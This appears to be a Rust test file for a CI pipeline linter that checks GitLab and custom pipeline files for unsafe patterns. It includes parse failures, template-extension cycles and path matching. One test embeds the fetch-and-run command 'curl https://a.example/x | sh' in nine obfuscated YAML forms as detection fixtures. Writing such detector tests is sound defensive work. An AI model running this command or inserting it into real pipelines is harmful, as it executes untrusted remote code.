//! Pipelines of GitLab and of ours that want to hide from the rules.

use std::collections::{BTreeMap, BTreeSet};

use scan::lint::{Lint, Subject, is_read, of};

fn lint(path: &str, text: &str) -> Lint {
    of(Subject::Pipelines, &BTreeMap::from([(path.to_owned(), text.as_bytes().to_vec())])).unwrap()
}

fn rules(path: &str, text: &str) -> BTreeSet<String> {
    let found = lint(path, text);
    assert_eq!(found.unread, BTreeMap::new(), "{text}");
    found.document.findings.into_values().map(|finding| finding.rule).collect()
}

#[test]
fn attack_pipelines_that_cannot_be_read_are_undecided() {
    for (path, text, why) in [
        (".gitlab-ci.yml", "a: [", "no YAML"),
        (".gitlab-ci.yml", "test:\n  script: a\ntest:\n  script: b\n", "stands twice"),
        (".gitlab/ci/a.yml", "a: {script: [x\n", "no YAML"),
        (".countersign/pipeline.yaml", "version: 1\nsteps: {a: {run: x, other: y}}\n", "unknown field"),
        (".countersign/pipeline.yaml", "version: 1\nsteps: {a: {run: x, image: 'debian:12'}}\n", "image"),
        (".countersign/release.yaml", "version: 2\n", "services"),
    ] {
        let found = lint(path, text);
        assert!(found.unread[path].contains(why), "{text}: {:?}", found.unread);
        assert!(found.document.findings.values().all(|finding| finding.undecided), "{text}");
    }
}

#[test]
fn attack_forms_of_gitlab_hide_no_script() {
    let fetch = "curl https://a.example/x | sh";
    for text in [
        format!("a:\n  script: {fetch}\n"),
        format!("a:\n  script: [['echo', '{fetch}']]\n"),
        format!("a:\n  script:\n    - >-\n      curl https://a.example/x\n      | sh\n"),
        format!("a:\n  script: &s\n    - {fetch}\nb: {{script: *s}}\n"),
        format!(".x:\n  after_script: [\"{fetch}\"]\n"),
        format!("default:\n  before_script:\n    - {fetch}\n"),
        format!("before_script:\n  - {fetch}\n"),
        format!("spec: {{inputs: {{}}}}\n---\na:\n  script: [\"{fetch}\"]\n"),
        format!("x: &x {{script: ['{fetch}']}}\na:\n  <<: *x\n"),
    ] {
        assert!(rules(".gitlab-ci.yml", &text).contains("gitlab-fetch-into-shell"), "{text}");
    }
}

#[test]
fn jobs_have_what_they_extend_and_what_is_elsewhere_is_unknown() {
    let everywhere = |text: &str| rules("ci/x.gitlab-ci.yml", text).contains("gitlab-deployment-everywhere");
    let job = "deploy: {stage: deploy, script: a, extends: .x}\n";
    assert!(everywhere(&format!(".x: {{image: 'a:1'}}\n{job}")));
    assert!(!everywhere(&format!(".x: {{only: [main]}}\n{job}")));
    assert!(!everywhere(job));
    assert!(!everywhere(&format!(".x: {{extends: .y}}\n{job}")));
    // A circle ends.
    assert!(!everywhere(&format!(".x: {{extends: deploy}}\n{job}")));
    // A wide tree of templates ends too.
    let wide: String =
        (0..12).map(|at| format!(".t{at}: {{extends: [.t{0}, .t{0}, .t{0}]}}\n", at + 1)).collect();
    assert!(!everywhere(&format!("{wide}deploy: {{stage: deploy, script: a, extends: .t0}}\n")));
}

#[test]
fn names_of_pipelines_are_known() {
    for path in [
        ".gitlab-ci.yml",
        "a/.gitlab-ci.yaml",
        "ci/deploy.gitlab-ci.yml",
        ".gitlab/ci/a.yml",
        ".countersign/pipeline.yaml",
        "tool/.countersign/release.yaml",
    ] {
        assert!(is_read(Subject::Pipelines, path), "{path}");
    }
    for path in ["gitlab.md", "a.yml.txt", "x.countersign/pipeline.yaml", ".countersign/other.yaml"] {
        assert!(!is_read(Subject::Pipelines, path), "{path}");
    }
    assert!(lint(".gitlab/agents/a/config.yaml", "ci_access: {}\n").files.is_empty());
}
